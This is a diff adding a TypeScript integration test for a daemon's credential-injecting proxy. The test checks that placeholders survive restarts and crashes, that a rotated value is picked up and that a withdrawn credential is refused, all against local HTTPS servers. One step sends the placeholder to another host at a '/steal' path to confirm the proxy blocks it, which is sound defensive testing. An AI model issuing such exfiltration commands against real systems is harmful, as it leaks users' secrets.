@@ -1,0 +1,250 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer, type Server } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+import forge from 'node-forge';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { alive, startDaemon, stopAllDaemons, waitFor, type TestDaemon } from '../helpers/daemon.js';
+import { killLeftovers } from '../helpers/procs.js';
+import { TestClient } from '../helpers/rpc.js';
+import { Scoped } from '../helpers/session.js';
+import { makeStateDir, readRecords, removeStateDirs } from '../helpers/state.js';
+import { killMarked, SKIP_SANDBOX } from './sandbox-support.js';
+
+/**
+ * A session whose proxy writes a credential in (SPEC §21) outlives the daemon (SPEC §19): a
+ * planned restart and a SIGKILL hand its placeholder on (never the value: the next image reads
+ * the value from its own config), so the same job's requests get the header written in before
+ * and after, and a credential the config no longer gives is withdrawn, its use refused saying why.
+ * A real sandbox, a real proxy, a local HTTPS server with its own CA; skipped (saying why) without them.
+ */
+
+const NO_CURL = spawnSync('curl', ['--version'], { stdio: 'ignore' }).status === 0 ? undefined : 'curl is not installed (Debian: apt-get install -y curl)';
+if (NO_CURL && !SKIP_SANDBOX) console.warn(`skipping the credential carry tests: ${NO_CURL}`);
+const SKIP = SKIP_SANDBOX || NO_CURL !== undefined;
+
+const VALUE = `Basic ${Buffer.from('carrier:pw-7e1b40c9d2').toString('base64')}`;
+const ROTATED = 'Bearer rotated-5a0f93c1e8';
+
+const base = mkdtempSync(join(existsSync('/var/tmp') ? '/var/tmp' : homedir(), 'procctl-credcarry-'));
+const workspace = join(base, 'workspace');
+const valueFile = join(base, 'api-auth');
+const sessions = new Set<string>();
+const pids = new Set<number>();
+const servers: Server[] = [];
+const ports: Record<string, number> = {};
+/** What the credential's host was sent: each request's Authorization and X-Echo-Token. */
+const seen: { auth?: string; token?: string }[] = [];
+const other: string[] = [];
+
+/** A CA and a certificate for 127.0.0.1 it signs: the test's own, which no system trusts. */
+function makePki(): { caPem: string; certPem: string; keyPem: string } {
+  const caKeys = forge.pki.rsa.generateKeyPair(1024);
+  const ca = forge.pki.createCertificate();
+  ca.publicKey = caKeys.publicKey;
+  ca.serialNumber = '01';
+  ca.validity.notBefore = new Date(Date.now() - 86_400_000);
+  ca.validity.notAfter = new Date(Date.now() + 86_400_000 * 30);
+  const caName = [{ name: 'commonName', value: 'credcarry test CA' }];
+  ca.setSubject(caName);
+  ca.setIssuer(caName);
+  ca.setExtensions([{ name: 'basicConstraints', cA: true, critical: true }, { name: 'keyUsage', keyCertSign: true, critical: true }]);
+  ca.sign(caKeys.privateKey, forge.md.sha256.create());
+  const keys = forge.pki.rsa.generateKeyPair(1024);
+  const leaf = forge.pki.createCertificate();
+  leaf.publicKey = keys.publicKey;
+  leaf.serialNumber = '02';
+  leaf.validity.notBefore = ca.validity.notBefore;
+  leaf.validity.notAfter = ca.validity.notAfter;
+  leaf.setSubject([{ name: 'commonName', value: '127.0.0.1' }]);
+  leaf.setIssuer(caName);
+  leaf.setExtensions([{ name: 'subjectAltName', altNames: [{ type: 7, ip: '127.0.0.1' }] }, { name: 'extKeyUsage', serverAuth: true }]);
+  leaf.sign(caKeys.privateKey, forge.md.sha256.create());
+  return { caPem: forge.pki.certificateToPem(ca), certPem: forge.pki.certificateToPem(leaf), keyPem: forge.pki.privateKeyToPem(keys.privateKey) };
+}
+
+async function listen(server: Server, host: string): Promise<number> {
+  servers.push(server);
+  await new Promise<void>((r) => server.listen(0, host, r));
+  return (server.address() as { port: number }).port;
+}
+
+beforeAll(async () => {
+  if (SKIP) return;
+  mkdirSync(workspace);
+  const pki = makePki();
+  writeFileSync(join(base, 'upstream-ca.pem'), pki.caPem);
+  ports.good = await listen(
+    createHttpsServer({ key: pki.keyPem, cert: pki.certPem }, (q, r) => {
+      const auth = q.headers.authorization;
+      const token = q.headers['x-echo-token'] as string | undefined;
+      seen.push({ auth, token });
+      r.end(auth === VALUE || auth === ROTATED ? `ok ${auth === VALUE ? 'first' : 'rotated'} token-${token === auth ? 'same' : 'differs'} ${q.url}\n` : 'unauthorized\n');
+    }) as unknown as Server,
+    '127.0.0.1',
+  );
+  ports.other = await listen(
+    createHttpServer((q, r) => {
+      other.push(q.url!);
+      r.end('the other host answered\n');
+    }),
+    '127.0.0.2',
+  );
+}, 60_000);
+
+afterEach(async () => {
+  await stopAllDaemons();
+  killMarked(sessions);
+  killLeftovers(pids);
+});
+
+afterAll(() => {
+  for (const srv of servers) srv.close();
+  removeStateDirs();
+  rmSync(base, { recursive: true, force: true });
+});
+
+function config(credentials: unknown[] = [{ name: 'API', hosts: ['127.0.0.1'], valueFile }]) {
+  return { sandbox: { mode: 'workspace-write', workspaces: [base], network: { allow: ['127.0.0.2'], upstreamCa: join(base, 'upstream-ca.pem'), credentials } } };
+}
+
+async function status(d: TestDaemon): Promise<any> {
+  const c = await TestClient.connect(d.socket);
+  try {
+    return await c.call('daemon.status');
+  } finally {
+    c.close();
+  }
+}
+
+async function restart(d: TestDaemon, before: number): Promise<any> {
+  const c = await TestClient.connect(d.socket);
+  const r = await c.request('daemon.restart', { scope: '*', approverToken: readFileSync(`${d.socket}.approver`, 'utf8').trim() });
+  c.close();
+  if (r.error) throw new Error(`restart refused: ${r.error.message}`);
+  await waitFor(
+    async () => {
+      try {
+        const st = await status(d);
+        return st.restarts.planned > before ? st : false;
+      } catch {
+        return false;
+      }
+    },
+    { what: 'the new image to serve', timeoutMs: 60_000 },
+  );
+  return r.result;
+}
+
+// curl goes to 127.0.0.1 directly when NO_PROXY names it (the job's own loopback); these ask the proxy.
+const CURL = 'curl -sS -m 20 --noproxy ""';
+/** A request with the placeholder in a header of the job's own (the proxy replaces it) and none in Authorization (written in). */
+const ask = (tag: string) => `${CURL} -H "X-Echo-Token: $PROCCTL_CRED_API" https://127.0.0.1:${ports.good}/${tag}; echo "done ${tag}"`;
+
+/** Wait for `text` in the session's output, and return the whole output. */
+async function until(s: Scoped, id: string, text: string): Promise<string> {
+  await s.waitOutput(id, text, 60_000);
+  return (await s.log(id, { offset: 0, limit: 1000 })).output;
+}
+
+/** The session's credential_used records on the trail. */
+async function uses(s: Scoped, id: string): Promise<any[]> {
+  const history = (await s.request('history', { sessionId: id })).result;
+  expect(JSON.stringify(history)).not.toContain(VALUE.slice(6));
+  return history.records.filter((x: any) => x.type === 'credential_used');
+}
+
+/** Start the line-runner job and make one request through its proxy. */
+async function started(d: TestDaemon): Promise<{ s: Scoped; job: any; placeholder: string }> {
+  const s = new Scoped(await d.client(), 'cred');
+  const job = await s.exec({ command: 'echo "ph=$PROCCTL_CRED_API"; while read -r l; do eval "$l"; done', background: true, workdir: workspace });
+  sessions.add(job.sessionId);
+  pids.add(job.pid);
+  const placeholder = /ph=(\S+)/.exec(await until(s, job.sessionId, 'ph=procctl-placeholder-API-'))![1];
+  await s.process({ action: 'write', sessionId: job.sessionId, data: `${ask('before')}\n` });
+  expect(await until(s, job.sessionId, 'done before')).toContain('ok first token-same /before\n');
+  return { s, job, placeholder };
+}
+
+describe.skipIf(SKIP)('sessions with credentials outlive the daemon', () => {
+  it('a planned restart carries the placeholder: the value is written in before and after, audited both times; a credential the new config drops is withdrawn, its use refused saying why', async () => {
+    writeFileSync(valueFile, `${VALUE}\n`);
+    const d = await startDaemon({ config: config() });
+    const { job, placeholder } = await started(d);
+    expect(seen.at(-1)).toEqual({ auth: VALUE, token: VALUE });
+
+    expect((await restart(d, 0)).sessions).toBe(1);
+    let s = new Scoped(await d.client(), 'cred');
+    const listed = (await s.list()).find((x: any) => x.sessionId === job.sessionId);
+    expect(listed.pid).toBe(job.pid);
+    await s.process({ action: 'write', sessionId: job.sessionId, data: `${ask('after')}; echo "ph=$PROCCTL_CRED_API"\n` });
+    const out = await until(s, job.sessionId, 'done after');
+    // The same placeholder, known to the new image's proxy: replaced in the job's own header, and the header written in.
+    expect(out).toContain('ok first token-same /after\n');
+    expect(seen.at(-1)).toEqual({ auth: VALUE, token: VALUE });
+    expect((await s.log(job.sessionId, { offset: 0, limit: 100 })).output.match(/ph=(\S+)/g)).toEqual([`ph=${placeholder}`, `ph=${placeholder}`]);
+    const used = await uses(s, job.sessionId);
+    expect(used.map((u) => [u.name, u.host])).toEqual([
+      ['API', '127.0.0.1'],
+      ['API', '127.0.0.1'],
+    ]);
+    // Sent elsewhere, the placeholder is still refused before that host sees anything.
+    const before = other.length;
+    await s.process({ action: 'write', sessionId: job.sessionId, data: `${CURL} -H "X-T: $PROCCTL_CRED_API" http://127.0.0.2:${ports.other}/steal; echo "done steal"\n` });
+    expect(await until(s, job.sessionId, 'done steal')).toContain('credential_elsewhere');
+    expect(other.length).toBe(before);
+
+    // The value rotated in its file: the next image writes in the new one, for the same placeholder.
+    writeFileSync(valueFile, `${ROTATED}\n`);
+    expect((await restart(d, 1)).sessions).toBe(1);
+    s = new Scoped(await d.client(), 'cred');
+    await s.process({ action: 'write', sessionId: job.sessionId, data: `${ask('rotated')}\n` });
+    expect(await until(s, job.sessionId, 'done rotated')).toContain('ok rotated token-same /rotated\n');
+
+    // The credential taken out of the config: the session runs on, nothing is written in, the request never leaves.
+    writeFileSync(join(d.dir, 'config.json'), JSON.stringify(config([])));
+    const sent = seen.length;
+    expect((await restart(d, 2)).sessions).toBe(1);
+    s = new Scoped(await d.client(), 'cred');
+    await s.process({ action: 'write', sessionId: job.sessionId, data: `${CURL} -w ' %{http_code}\\n' https://127.0.0.1:${ports.good}/withdrawn; echo "done withdrawn"\n` });
+    const refused = await until(s, job.sessionId, 'done withdrawn');
+    expect(refused).toContain('403');
+    expect(refused).toMatch(/credential_withdrawn: credential API is no longer in the daemon's config/);
+    expect(seen.length).toBe(sent);
+    await waitFor(async () => (await s.list()).find((x: any) => x.sessionId === job.sessionId).network?.denied?.some((x: any) => /^credential_withdrawn/.test(x.reason)), { what: 'the refusal counted on the session' });
+    expect(await uses(s, job.sessionId)).toHaveLength(3);
+    await s.process({ action: 'write', sessionId: job.sessionId, data: 'exit 3\n' });
+    expect((await s.pollUntilEnded(job.sessionId, 30_000)).last.exitCode).toBe(3);
+  }, 240_000);
+
+  it('a SIGKILL of the daemon keeps the session and its placeholder: the next daemon writes the value in for it, and audits the use', async () => {
+    writeFileSync(valueFile, `${VALUE}\n`);
+    const state = makeStateDir();
+    const env = { PROCCTL_STATE_DIR: state, PROCCTL_ON_CRASH: 'keep', PROCCTL_CRASH_GRACE_MS: '60000' };
+    const d1 = await startDaemon({ env, config: config() });
+    const { job, placeholder } = await started(d1);
+    await waitFor(() => readRecords(state).get(job.sessionId)?.pidStartTime !== undefined, { what: 'the first record, after which the guardian holds the session' });
+    d1.proc.kill('SIGKILL');
+    if (d1.proc.exitCode === null && d1.proc.signalCode === null) await new Promise((r) => d1.proc.once('exit', r));
+    await waitFor(() => existsSync(join(state, 'guardian.sock')), { what: 'the guardian to wait for the next daemon' });
+    expect(alive(job.pid)).toBe(true);
+    // Nothing on disk holds the value.
+    for (const rec of readRecords(state).values()) expect(JSON.stringify(rec)).not.toContain(VALUE.slice(6));
+
+    const d2 = await startDaemon({ env, config: config() });
+    expect((await status(d2)).restarts).toMatchObject({ crash: 1, adopted: 1, lost: 0 });
+    const s = new Scoped(await d2.client(), 'cred');
+    const listed = (await s.list()).find((x: any) => x.sessionId === job.sessionId);
+    expect(listed.pid).toBe(job.pid);
+    expect(readRecords(state).get(job.sessionId)?.adopted).toBe('crash');
+    await s.process({ action: 'write', sessionId: job.sessionId, data: `${ask('after')}; echo "ph=$PROCCTL_CRED_API"\n` });
+    expect(await until(s, job.sessionId, 'done after')).toContain('ok first token-same /after\n');
+    expect(seen.at(-1)).toEqual({ auth: VALUE, token: VALUE });
+    expect((await s.log(job.sessionId, { offset: 0, limit: 100 })).output).toContain(`ph=${placeholder}\n`);
+    expect((await uses(s, job.sessionId)).map((u) => u.name)).toEqual(['API', 'API']);
+    await s.process({ action: 'write', sessionId: job.sessionId, data: 'exit 3\n' });
+    await s.pollUntilEnded(job.sessionId, 30_000);
+  }, 240_000);
+});
